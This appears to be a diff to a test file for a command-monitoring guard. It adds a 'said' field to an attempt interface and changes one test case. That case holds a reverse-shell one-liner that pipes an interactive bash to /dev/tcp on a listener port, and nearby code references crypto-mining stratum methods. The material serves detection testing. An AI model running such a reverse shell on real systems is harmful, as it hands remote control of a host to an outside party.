@@ -14,6 +14,8 @@ export interface Attempt {
   readonly rule: string;
   /** Guard's rule for the command as it is written, where that gives it away; it leads the incident then. */
   readonly written?: string;
+  /** The rule over programs sees its act in the text of the call already. */
+  readonly said?: boolean;
   /** Command line of the process that is to be named. */
   readonly process: RegExp;
 }
@@ -127,7 +129,7 @@ for number, method in enumerate(["mining.subscribe", "mining.authorize"]):
       command: `timeout 8 bash -c 'bash -i >& /dev/tcp/${PLACES.listener}/4444 0>&1'`,
       worked: said("listener", "42"),
       rule: "shell-reverse",
-      written: "reverse-shell",
+      said: true,
       process: /^bash -i$/,
     },
     {
